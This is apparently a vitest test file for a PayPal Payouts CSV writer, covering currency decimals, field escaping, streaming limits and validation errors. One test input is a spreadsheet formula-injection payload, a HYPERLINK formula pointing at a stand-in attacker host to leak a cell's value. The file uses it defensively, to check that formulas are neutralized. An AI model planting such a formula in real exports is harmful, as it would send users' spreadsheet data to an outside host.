import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { PaymentFileError } from '../../src/payments/pain001.js';
import {
  PAYPAL_PAYOUTS_MAX_ROWS,
  type PaypalPayout,
  type PaypalPayoutsHeader,
  csvEscape,
  neutralizeFormula,
  writePaypalPayoutsCsv,
} from '../../src/payments/paypal-payouts.js';

async function collect(chunks: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const chunk of chunks) out.push(chunk);
  return out;
}

function payout(overrides: Partial<PaypalPayout> = {}): PaypalPayout {
  return { paystubId: 'PS-1', email: 'jane@example.com', amountMinor: 1234n, currency: 'USD', note: 'Lockstep payout 2026-12', ...overrides };
}

function headerFor(payouts: PaypalPayout[], overrides: Partial<PaypalPayoutsHeader> = {}): PaypalPayoutsHeader {
  return {
    currency: payouts[0]!.currency,
    numberOfPayouts: payouts.length,
    controlSumMinor: payouts.reduce((sum, p) => sum + p.amountMinor, 0n),
    ...overrides,
  };
}

async function csvOf(payouts: PaypalPayout[], overrides: Partial<PaypalPayoutsHeader> = {}): Promise<string> {
  return (await collect(writePaypalPayoutsCsv(headerFor(payouts, overrides), payouts))).join('');
}

describe('writePaypalPayoutsCsv', () => {
  it('writes one line per payout, without a header row: e-mail, amount, currency, reference, note, wallet', async () => {
    expect(await csvOf([payout(), payout({ paystubId: 'PS-2', email: 'Bob@Example.COM', amountMinor: 100_000n, note: undefined })])).toBe(
      'jane@example.com,12.34,USD,PS-1,Lockstep payout 2026-12,PAYPAL\r\nBob@example.com,1000.00,USD,PS-2,,PAYPAL\r\n',
    );
  });

  it.each<[string, bigint, string]>([
    ['JPY', 1234n, '1234'],
    ['KWD', 1234n, '1.234'],
    ['EUR', 5n, '0.05'],
  ])('formats %s amounts with the currency’s decimals', async (currency, amountMinor, text) => {
    expect(await csvOf([payout({ currency, amountMinor })])).toBe(`jane@example.com,${text},${currency},PS-1,Lockstep payout 2026-12,PAYPAL\r\n`);
  });

  it('writes a decimal comma, quoted, for accounts that expect one', async () => {
    expect(await csvOf([payout({ currency: 'EUR', amountMinor: 10_050n })], { decimalSeparator: ',' })).toBe(
      'jane@example.com,"100,50",EUR,PS-1,Lockstep payout 2026-12,PAYPAL\r\n',
    );
  });

  it('escapes notes and neutralizes formulas, and the file parses back to the same fields', async () => {
    const notes = [
      'Payout, "December" bonus',
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1 bonus',
      '-5 correction',
      '@SUM(A1:A9)',
      'line one\nline two\r\n\tindented',
      'Zoë 山田 😀',
      'x'.repeat(450),
    ];
    const payouts = notes.map((note, i) => payout({ paystubId: `PS-${i}`, note }));
    const csv = await csvOf(payouts);
    const rows: string[][] = parse(csv, { relax_column_count: false });
    expect(rows.map((row) => row[4])).toEqual([
      'Payout, "December" bonus',
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      "'+1 bonus",
      "'-5 correction",
      "'@SUM(A1:A9)",
      'line one line two indented',
      'Zoë 山田 😀',
      'x'.repeat(400),
    ]);
    expect(rows.every((row) => row.length === 6 && row[5] === 'PAYPAL')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(notes.length + 1);
  });

  it('streams a full file of 5,000 payouts in several chunks', async () => {
    const count = PAYPAL_PAYOUTS_MAX_ROWS;
    function* payouts(): Iterable<PaypalPayout> {
      for (let i = 0; i < count; i++) yield payout({ paystubId: `PS-${i}`, email: `partner${i}@example.com`, amountMinor: BigInt(1000 + i) });
    }
    let sum = 0n;
    for (const p of payouts()) sum += p.amountMinor;
    const chunks = await collect(writePaypalPayoutsCsv({ currency: 'USD', numberOfPayouts: count, controlSumMinor: sum }, payouts()));
    expect(chunks.length).toBeGreaterThan(3);
    expect(parse(chunks.join(''))).toHaveLength(count);
  });

  it.each<[string, Partial<PaypalPayout>, string]>([
    ['a bad e-mail address', { email: 'jane@localhost' }, 'Payout PS-1: PaypalEmailAddress: jane@localhost is not a valid e-mail address'],
    ['a reference with a space', { paystubId: 'PS 1' }, 'Paystub id "PS 1" cannot be a PayPal reference'],
    ['a reference of 31 characters', { paystubId: 'P'.repeat(31) }, 'cannot be a PayPal reference'],
    ['a reference starting with =', { paystubId: '=1' }, 'cannot be a PayPal reference'],
    ['another currency', { currency: 'EUR' }, 'Payout PS-1 is in EUR, but the file is in USD; PayPal takes one currency per file.'],
    ['a zero amount', { amountMinor: 0n }, 'Payout PS-1 has amount 0.00; a payout must be above zero.'],
  ])('refuses a payout with %s', async (_, overrides, message) => {
    await expect(collect(writePaypalPayoutsCsv({ currency: 'USD', numberOfPayouts: 1, controlSumMinor: 1234n }, [payout(overrides)]))).rejects.toThrow(message);
  });

  it('checks the announced count and sum', async () => {
    await expect(collect(writePaypalPayoutsCsv({ currency: 'USD', numberOfPayouts: 1, controlSumMinor: 2468n }, [payout(), payout({ paystubId: 'PS-2' })]))).rejects.toThrow(
      'Payment PS-2 is number 2, but the header announced 1',
    );
    await expect(collect(writePaypalPayoutsCsv({ currency: 'USD', numberOfPayouts: 2, controlSumMinor: 2468n }, [payout()]))).rejects.toThrow(
      'The header announced 2 payments for 24.68 USD, but 1 payments for 12.34 USD were streamed',
    );
    await expect(collect(writePaypalPayoutsCsv({ currency: 'USD', numberOfPayouts: 1, controlSumMinor: 1000n }, [payout()]))).rejects.toThrow(PaymentFileError);
  });

  it('refuses more payouts than PayPal takes in one file, or an unknown currency, before writing', async () => {
    await expect(collect(writePaypalPayoutsCsv({ currency: 'USD', numberOfPayouts: 5001, controlSumMinor: 1n }, []))).rejects.toThrow(
      'The file would hold 5001 payments; one file holds at most 5000, so split them into several files.',
    );
    await expect(collect(writePaypalPayoutsCsv({ currency: 'usd', numberOfPayouts: 1, controlSumMinor: 1n }, []))).rejects.toThrow('Header currency: "usd" is not a supported');
  });
});

describe('CSV fields', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['', ''],
  ])('csvEscape(%j) → %j', (field, escaped) => {
    expect(csvEscape(field)).toBe(escaped);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['safe = text', 'safe = text'],
  ])('neutralizeFormula(%j) → %j', (text, neutral) => {
    expect(neutralizeFormula(text)).toBe(neutral);
  });
});
